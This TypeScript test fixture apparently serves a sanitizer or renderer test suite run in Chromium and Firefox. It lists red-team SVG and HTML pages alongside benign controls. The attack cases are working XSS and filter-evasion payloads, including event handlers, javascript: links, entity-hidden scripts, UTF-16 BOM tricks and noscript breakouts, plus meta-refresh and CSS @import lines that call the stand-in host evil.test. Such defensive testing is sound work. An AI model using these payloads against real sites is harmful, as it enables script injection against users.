// The pages and SVG documents of hidden rounds 4 and 5 rebuilt for the browser (issue 41), shared by the Chromium
// and the Firefox rounds: attacks a red team sends, benign controls, and the sendings each is judged under.
import { sendingsOf } from './judge-variants.ts';

/** What an attack runs: it sets `window.__ran` in the page (or its parent). */
export const ran = 'window.__ran=1';
/** The SVG namespace. */
export const svgNs = 'http://www.w3.org/2000/svg';
/** The XHTML namespace. */
export const xhtmlNs = 'http://www.w3.org/1999/xhtml';
/** An SVG document holding `inner`, as a base64 `data:` url. */
export const svgData = (inner: string): string =>
  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="${svgNs}" width="10" height="10">${inner}</svg>`).toString('base64')}`;

/** A case: name, the type the browser is served, the body, and what to do after load: click an element (link attacks), or wait for the page to leave (`leaves`: a refresh fires its navigation after load). */
export type Page = readonly [name: string, served: string, body: string | Buffer, then?: string];

/** Every plausible sending of an SVG document. */
export const svgSendings = sendingsOf(
  'guide://art/logo',
  ['.svg', '.SVG', '.svg.txt', ''],
  ['image/svg+xml', 'text/plain', 'application/octet-stream', 'application/xml', undefined],
);
/** Every plausible sending of a page. */
export const htmlSendings = sendingsOf(
  'guide://site/page',
  ['.html', '.HTM', '.md', '.txt', ''],
  ['text/html', 'text/plain', 'text/markdown', 'application/octet-stream', undefined],
);

/** SVG documents a red team sends (hidden rounds 4 and 5), each live in a browser. */
export const svgAttacks: Page[] = [
  [
    'foreignObject with a meta refresh off the page',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="9" height="9"><meta xmlns="${xhtmlNs}" http-equiv="refresh" content="0;url=http://evil.test/x"/></foreignObject></svg>`,
    'leaves',
  ],
  [
    'foreignObject with an iframe srcdoc',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="99" height="99"><iframe xmlns="${xhtmlNs}" srcdoc="&lt;script&gt;parent.__ran=1&lt;/script&gt;"/></foreignObject></svg>`,
  ],
  [
    'an animate onbegin handler',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><rect width="5" height="5"><animate attributeName="x" from="0" to="5" dur="1s" onbegin="${ran}"/></rect></svg>`,
  ],
  [
    'a set element giving a link a javascript: href',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" width="100" height="100"><a id="l"><rect width="100" height="100"/><set attributeName="href" to="javascript:${ran}"/></a></svg>`,
    '#l',
  ],
  [
    'an animate element giving a link a javascript: href',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" width="100" height="100"><a id="l"><rect width="100" height="100"/><animate attributeName="href" values="javascript:${ran}" dur="9s"/></a></svg>`,
    '#l',
  ],
  [
    'a script hidden in an internal xml entity',
    'image/svg+xml',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY p "<script xmlns='${svgNs}'>${ran}</script>">]><svg xmlns="${svgNs}">&p;</svg>`,
  ],
  [
    'a handler written with character references',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" &#x6f;nload="${ran}"/>`.replace('&#x6f;nload', 'onload'),
  ],
  [
    'a script loaded from a data: url',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:text/javascript,${ran}"/></svg>`,
  ],
  [
    'an onload in UTF-16 with a BOM',
    'image/svg+xml',
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><svg xmlns="${svgNs}" onload="${ran}"/>`, 'utf16le'),
    ]),
  ],
  [
    'an onload after a UTF-8 BOM and CRLF lines',
    'image/svg+xml',
    Buffer.from(`\ufeff<?xml version="1.0"?>\r\n<svg xmlns="${svgNs}"\r\n  onload="${ran}">\r\n</svg>\r\n`),
  ],
  ['a script under an svg prefix', 'image/svg+xml', `<s:svg xmlns:s="${svgNs}"><s:script>${ran}</s:script></s:svg>`],
  // a stylesheet the document fetches off its origin by itself (issue 41 item 3: withheld as content.remote-load)
  [
    'a css @import in an svg style',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style>@import url(http://evil.test/x.css);</style><rect width="5" height="5"/></svg>`,
    'leaves',
  ],
  [
    'a css @import in CDATA with an escaped at-keyword',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style><![CDATA[ @\\69mport "http://evil.test/x.css"; ]]></style></svg>`,
    'leaves',
  ],
];

/** Pages a red team sends (hidden rounds 4 and 5), each live in a browser. */
export const htmlAttacks: Page[] = [
  [
    'an svg animate onbegin in html',
    'text/html',
    `<p>Chart</p><svg><animate onbegin="${ran}" attributeName="x" dur="1s"/></svg>`,
  ],
  ['an img breaking out of an svg style', 'text/html', `<svg><style><img src="x" onerror="${ran}"></style></svg>`],
  [
    'an img hidden in a noscript title',
    'text/html',
    `<noscript><p title="</noscript><img src=x onerror=${ran}>"></p></noscript>`,
  ],
  ['an uppercase handler with CRLF', 'text/html', `<P>Hi</P>\r\n<IMG\r\nSRC=x\r\nONERROR="${ran}">\r\n`],
  ['a details ontoggle', 'text/html', `<details open ontoggle="${ran}"><summary>x</summary></details>`],
  ['an iframe with a javascript: src', 'text/html', '<iframe src="javascript:parent.__ran=1"></iframe>'],
  [
    'a meta refresh off the page',
    'text/html',
    '<meta http-equiv="refresh" content="0; url=http://evil.test/x"><p>Moved</p>',
    'leaves',
  ],
  ['an img after a comment that hides nothing', 'text/html', `<!--<img src="--><img src=x onerror=${ran}>-->`],
  ['a script in a UTF-8 BOM page', 'text/html', `\ufeff<!doctype html><script>${ran}</script>`],
  [
    'a handler in a UTF-16LE page with a BOM',
    'text/html',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<p>Hi</p><img src=x onerror="${ran}">`, 'utf16le')]),
  ],
  [
    'a script in a UTF-16BE page with a BOM',
    'text/html',
    Buffer.from(Buffer.from(`\ufeff<!doctype html><script>${ran}</script>`, 'utf16le').swap16()),
  ],
];

/** Benign SVG documents that load inert in a browser. */
export const svgControls: Page[] = [
  [
    'an icon-font svg (font and glyph elements)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><defs><font id="icons" horiz-adv-x="1024"><font-face font-family="icons" units-per-em="1024" ascent="960" descent="-64"/><missing-glyph horiz-adv-x="1024"/><glyph glyph-name="home" unicode="&#xe900;" d="M512 960l-512-512h128v-448h768v448h128z"/></font></defs></svg>`,
  ],
  [
    'an svg showing another svg (xlink:href, what Inkscape writes)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"><image width="10" height="10" xlink:href="${svgData('<script>parent.__ran=1</script><rect onclick="x" width="5" height="5"/>')}"/></svg>`,
  ],
  [
    'an svg showing another svg (url-encoded data)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" width="20" height="20"><image width="10" height="10" href="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="${svgNs}" onload="parent.__ran=1"><rect width="5" height="5"/></svg>`)}"/></svg>`,
  ],
  [
    'a drawing with a title, gradient and text',
    'image/svg+xml',
    `<?xml version="1.0" encoding="UTF-8"?>\r\n<svg xmlns="${svgNs}" viewBox="0 0 40 20"><title>Badge</title><defs><linearGradient id="g"><stop offset="0" stop-color="#bbb"/></linearGradient></defs><rect fill="url(#g)" width="40" height="20"/><text x="2" y="14">build</text></svg>`,
  ],
  [
    'a style with an @import only in a comment, and @media rules',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style>/* @import url(theme.css) was here */ @media (prefers-color-scheme: dark) { rect { fill: #eee } }</style><rect width="5" height="5"/></svg>`,
  ],
  [
    'an animated spinner (animate on a transform)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"><animate attributeName="r" values="2;4;2" dur="1s" repeatCount="indefinite"/></circle></svg>`,
  ],
];
